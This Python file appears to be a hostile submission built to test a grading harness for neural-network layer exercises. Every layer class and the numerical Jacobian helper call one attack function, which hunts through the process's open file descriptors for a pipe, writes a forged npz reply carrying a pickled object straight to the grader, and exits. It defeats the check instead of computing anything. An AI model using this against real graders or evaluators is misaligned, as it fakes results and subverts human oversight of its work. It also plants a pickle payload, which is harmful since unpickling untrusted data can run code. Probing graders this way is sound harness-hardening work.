"""Attack: write a forged reply straight into the pipe to the grader (a pickle inside an npz), then exit."""
import io
import os
import pickle

import numpy as np


def attack(x, *rest):
    payload = io.BytesIO()
    np.savez(payload, __skeleton__=np.frombuffer(b"{\"a\": 0}", dtype=np.uint8),
             a0=np.array([pickle.dumps(os.getpid())], dtype=object))
    data = payload.getvalue()
    frame = len(data).to_bytes(8, "little") + data
    for fd in range(3, 64):
        try:
            if "pipe" in os.readlink(f"/proc/self/fd/{fd}"):
                os.write(fd, frame)
        except OSError:
            pass
    os._exit(0)


class _Attack:
    """Stands in for every layer and loss of the chapter."""

    def __init__(self, *args, **kwargs):
        pass

    def parameters(self):
        return {}

    def forward(self, *args):
        return attack(*args)

    def backward(self, *args):
        return attack(*(args or (np.zeros(3),)))


ELU = Softplus = GELU = HuberLoss = Residual = Embedding = _Attack


def numerical_jacobian(f, x, h=1e-5):
    return attack(x)
